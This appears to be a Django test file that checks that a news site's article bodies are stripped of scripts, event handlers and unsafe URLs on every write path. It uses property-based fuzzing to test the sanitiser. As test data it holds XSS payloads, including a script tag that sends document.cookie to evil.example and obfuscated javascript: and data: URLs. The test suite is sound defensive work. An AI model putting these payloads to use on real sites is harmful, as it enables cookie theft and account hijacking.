"""Article bodies are sanitized on every way in: admin form, save(), bulk writes."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from articles.body import ELEMENT_ATTRIBUTES, ELEMENT_TAGS, element_value
from articles.models import Article, sanitize_body
from tests.factories import make_article, make_section
from tests.hostile import hostile_text

pytestmark = pytest.mark.django_db

HOSTILE = (
    '<p onclick="steal()">Council news.</p>'
    "<script>document.location='https://evil.example/'+document.cookie</script>"
    '<img src="x" onerror="alert(1)">'
    '<p><a href="javascript:alert(1)">click</a> '
    '<a href="JaVaScRiPt:alert(2)">again</a> '
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>'
    "</p>"
    '<iframe src="https://evil.example/"></iframe>'
)

ORDINARY = (
    "<p>The council met on <strong>Tuesday</strong> and <em>voted</em>.</p>"
    "<h2>What was decided</h2>"
    '<p>Read <a href="https://www.example.ie/plan">the plan</a> or '
    '<a href="mailto:desk@example.ie">write to us</a>.</p>'
    "<blockquote><p>We will build it, said the mayor.</p></blockquote>"
    "<ul><li><p>A new pier</p></li><li><p>A cycle path</p></li></ul>"
    "<ol><li><p>First</p></li></ol>"
)


def assert_harmless(html):
    lowered = html.lower()
    assert "<script" not in lowered
    assert "<iframe" not in lowered
    assert "<img" not in lowered
    assert not re.search(r"<[^>]*\son\w+\s*=", lowered)  # no on*= attribute
    assert "javascript:" not in lowered
    assert "data:" not in lowered
    assert "Council news." in html


def test_sanitize_body_keeps_ordinary_markup():
    """Paragraphs, headings, https and mailto links, quotes and lists survive."""
    assert sanitize_body(ORDINARY) == ORDINARY


def test_save_sanitizes_the_body():
    """A plain save() (shell, loaders, scripts) stores no script or handler."""
    article = make_article(body=HOSTILE + ORDINARY)
    article.refresh_from_db()
    assert_harmless(article.body)
    assert article.body.endswith(ORDINARY)
    assert "<a>click</a>" in article.body


def test_bulk_create_bulk_update_and_update_sanitize_the_body():
    """Bulk writes, which skip save(), sanitize the body as well."""
    section = make_section()
    created = Article.objects.bulk_create(
        [Article(title="Bulk", slug="bulk", section=section, body=HOSTILE)]
    )
    assert_harmless(Article.objects.get(pk=created[0].pk).body)
    article = Article.objects.get(pk=created[0].pk)
    article.body = HOSTILE
    Article.objects.bulk_update([article], ["body"])
    assert_harmless(Article.objects.get(pk=article.pk).body)
    Article.objects.filter(pk=article.pk).update(body=HOSTILE)
    assert_harmless(Article.objects.get(pk=article.pk).body)


def test_empty_editor_content_is_stored_as_empty():
    """The editor's lone empty paragraph does not count as a body."""
    article = make_article(body="<p></p>")
    article.refresh_from_db()
    assert article.body == ""


# Property: for any markup, sanitising is idempotent and its output is harmless.

TAGS = [
    "p",
    "a",
    "img",
    "script",
    "iframe",
    "svg",
    "math",
    "style",
    "b",
    "h2",
    "blockquote",
    "ul",
    "li",
    "object",
    "embed",
    "form",
    "input",
    "table",
    # The body elements' tags (docs/body-elements.md).
    *sorted(ELEMENT_TAGS),
]
ATTRIBUTES = [
    "href",
    "src",
    "onclick",
    "onerror",
    "OnLoad",
    "style",
    "srcdoc",
    "xlink:href",
    "formaction",
    "data",
    "title",
    "class",
    "rel",
    "data-element",
    "data-image",
    "data-placement",
    "data-url",
    "data-article",
    "data-at",
    "colspan",
    "rowspan",
]
URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:x",
    "java\tscript:x",
    "&#106;avascript:x",
    "data:text/html,<script>x</script>",
    "DATA:image/svg+xml,x",
    "vbscript:x",
    "https://example.ie/",
    "mailto:a@example.ie",
    "//evil.example/",
    "http://example.ie/",
    "https://www.youtube.com/watch?v=x&t=1",
    'https://example.ie/"onload="x',
    # The body elements' own values.
    "picture",
    "gallery",
    "embed",
    "pull-quote",
    "fact-box",
    "read-more",
    "update",
    "42",
    "-1",
    "wide",
    "full",
    "2026-12-06T14:32",
]


@st.composite
def markup(draw, depth=0):
    if depth > 2 or draw(st.integers(0, 3)) == 0:
        return draw(
            st.one_of(
                hostile_text,
                st.sampled_from(["<", ">", "&", "<!--", "-->", "<![CDATA[", "</"]),
            )
        )
    tag = draw(st.sampled_from(TAGS))
    attributes = "".join(
        f" {name}={quote}{value}{quote}"
        for name, value, quote in draw(
            st.lists(
                st.tuples(
                    st.sampled_from(ATTRIBUTES),
                    st.one_of(st.sampled_from(URLS), hostile_text),
                    st.sampled_from(['"', "'", ""]),
                ),
                max_size=3,
            )
        )
    )
    inner = "".join(draw(st.lists(markup(depth + 1), max_size=3)))
    close = draw(st.sampled_from([f"</{tag}>", "", f"</{tag.upper()} >"]))
    return f"<{tag}{attributes}>{inner}{close}"


@hypothesis_settings(max_examples=200)
@given(html=st.lists(markup(), max_size=4).map("".join))
def test_sanitising_is_idempotent_and_never_emits_script_handlers_or_bad_urls(html):
    clean = sanitize_body(html)
    assert sanitize_body(clean) == clean
    assert "<script" not in clean.lower()
    for tag, attributes in elements(clean):
        assert tag != "script"
        for name, value in attributes:
            assert not name.startswith("on"), (tag, name)
            assert name not in ("colspan", "rowspan"), (tag, name)
            if name.startswith("data-"):
                # Only the attributes and values the elements' format allows.
                assert tag in ELEMENT_ATTRIBUTES, (tag, name)
                assert element_value(tag, name, value) == value, (tag, name, value)
            if name not in URL_ATTRIBUTES:
                continue
            url = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
            assert not url.startswith(("javascript:", "data:", "vbscript:")), value


URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "cite",
    "data-url",
}


def elements(html):
    """(tag, attributes) of every element in `html`, as a browser parses them."""
    found = []

    class Collector(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, attrs))

        handle_startendtag = handle_starttag

    Collector(convert_charrefs=True).feed(html)
    return found
